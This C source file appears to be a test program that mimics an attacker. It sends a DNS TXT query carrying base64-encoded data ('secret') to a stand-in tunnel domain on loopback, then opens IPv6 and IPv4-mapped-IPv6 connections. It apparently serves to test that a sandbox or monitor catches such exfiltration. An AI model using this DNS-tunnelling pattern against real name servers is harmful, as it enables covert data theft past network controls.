/* SPDX-License-Identifier: Apache-2.0 OR MIT */
/* Carries data out in a question to a name server, and connects by IPv6 and by IPv4 inside IPv6. */
#include "attacker.h"

/* A question for TXT of `c2VjcmV0.tunnel.test`. */
static const char QUESTION[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
			       "\x08"
			       "c2VjcmV0"
			       "\x06"
			       "tunnel"
			       "\x04"
			       "test"
			       "\x00\x00\x10\x00\x01";

static void connect_6(const char *text, int listening_family)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6 };
	struct sockaddr_in address;
	socklen_t length = sizeof(to);
	int listening, fd;

	if (listening_family == AF_INET) {
		listening = listener(&address);
		to.sin6_port = address.sin_port;
	} else {
		listening = socket(AF_INET6, SOCK_STREAM, 0);
		to.sin6_addr = in6addr_loopback;
		if (bind(listening, (void *)&to, length) || listen(listening, 1))
			cannot("IPv6");
		require(getsockname(listening, (void *)&to, &length) == 0, "port");
	}
	require(inet_pton(AF_INET6, text, &to.sin6_addr) == 1, text);
	fd = socket(AF_INET6, SOCK_STREAM, 0);
	require(connect(fd, (void *)&to, sizeof(to)) == 0, text);
	close(fd);
	close(listening);
}

int main(int argc, char **argv)
{
	struct sockaddr_in server = { .sin_family = AF_INET, .sin_port = htons(53) };
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	begin(argc, argv);
	/* Nobody need listen there. */
	server.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	sendto(fd, QUESTION, sizeof(QUESTION) - 1, 0, (void *)&server, sizeof(server));
	connect_6("::ffff:127.0.0.1", AF_INET);
	connect_6("::1", AF_INET6);
	return 0;
}
